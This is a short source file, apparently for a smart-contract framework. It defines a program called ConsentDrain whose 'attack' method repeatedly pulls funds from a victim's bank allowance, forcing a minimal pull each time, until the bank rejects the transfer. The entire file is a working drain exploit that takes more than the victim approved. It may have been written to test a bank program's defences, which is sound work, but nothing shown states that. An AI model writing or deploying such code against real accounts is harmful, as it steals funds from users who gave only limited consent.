"""Pulls all that an account once consented to, and then again."""

from execution.lang import Account, Asset, Decimal, Program, ProgramRef, Rejected, external
from execution.programs.bank import Bank


class ConsentDrain(Program):
    bank: ProgramRef[Bank]
    taken: Decimal

    def create(self, bank: ProgramRef[Bank]) -> None:
        self.bank = bank

    @external
    def attack(self, victim: Account) -> Decimal:
        while True:
            limit = self.bank.allowance(victim, self.me, Asset(0))
            try:
                self.bank.pull(victim, Asset(0), max(limit, Decimal("0.000000000000000001")), gas=100_000)
                self.taken += limit
            except Rejected:
                return self.taken
